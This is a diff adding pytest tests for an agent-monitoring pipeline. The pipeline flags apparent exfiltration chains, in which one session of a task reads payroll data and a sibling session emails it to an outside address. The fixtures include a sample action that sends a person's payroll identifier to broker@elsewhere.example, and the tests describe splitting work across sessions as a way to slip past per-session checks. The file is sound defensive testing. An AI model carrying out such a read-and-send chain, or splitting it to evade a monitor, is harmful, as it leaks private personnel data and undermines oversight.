@@ -1,0 +1,74 @@
+"""Work that is split among the sessions of one task is one chain; other tasks and other tenants are not."""
+
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from guardian.domain.signal import Signal
+from guardian.pipeline.working import SIBLINGS_KEPT
+
+READ = {"tool": "payroll.read", "arguments": {"person": "user_88213"}, "data_classes": ["payroll"], "records": 1}
+SEND = {"tool": "email.send", "arguments": {"to": "broker@elsewhere.example", "body": "user_88213"}}
+
+
+@pytest.fixture
+def call(body: Callable[..., Any]) -> Callable[..., Any]:
+    """One decision: its number, what is done, and in which session of which task."""
+
+    def build(number: int, action: dict[str, Any], **envelope: Any) -> Any:
+        told = {"session_id": f"s{number}", "task_id": "task_1", "tenant_id": "acme"} | envelope
+        changes = {f"envelope__{name}": value for name, value in told.items()}
+        return body(number, action=action, result=None, **changes)
+
+    return build
+
+
+def chain(world: Any) -> Signal:
+    return next(s for s in world.verdicts[-1].drift.signals if s.name == "chain_exposure")
+
+
+@pytest.mark.parametrize("together", [True, False])
+def test_one_session_reads_and_its_sibling_sends_in_one_batch_or_in_two(
+    new_world: Any, call: Any, together: bool
+) -> None:
+    world = new_world()
+    if together:
+        world.feed(call(1, READ), call(2, SEND))
+    else:
+        world.feed(call(1, READ))
+        world.feed(call(2, SEND))
+    assert chain(world).value > 0.6
+    assert "payroll.read of another session of the task" in chain(world).reason
+    assert "a value of that read is in it" in chain(world).reason
+
+
+@pytest.mark.parametrize("other", [{"task_id": "task_2"}, {"task_id": None}, {"tenant_id": "globex"}])
+def test_another_task_no_task_and_another_tenant_know_nothing_of_it(
+    new_world: Any, call: Any, other: dict[str, Any]
+) -> None:
+    world = new_world()
+    world.feed(call(1, READ), call(2, SEND, **other))
+    assert chain(world).value == 0.0
+
+
+def test_a_finding_names_the_version_of_what_the_siblings_had_read(new_world: Any, call: Any) -> None:
+    world = new_world()
+    world.feed(call(1, READ), *(call(n, SEND) for n in range(2, 5)))
+    told = [f for f in world.findings.values() if "siblings" in f.versions]
+    assert told
+    assert all(len(f.versions["siblings"]) == 12 for f in told)
+
+
+def test_what_is_told_of_a_task_is_bounded(new_world: Any, call: Any) -> None:
+    world = new_world()
+    harmless = {"tool": "notes.read", "arguments": {}, "data_classes": ["note"]}
+    world.feed(call(1, READ), *(call(n, harmless) for n in range(2, SIBLINGS_KEPT + 20)))
+    world.feed(call(900, SEND))
+    assert "payroll.read of another session" in chain(world).reason
+
+
+def test_scoring_a_file_never_looks_at_other_sessions(new_world: Any, call: Any) -> None:
+    world = new_world(across_sessions=False)
+    world.feed(call(1, READ), call(2, SEND))
+    assert chain(world).value == 0.0
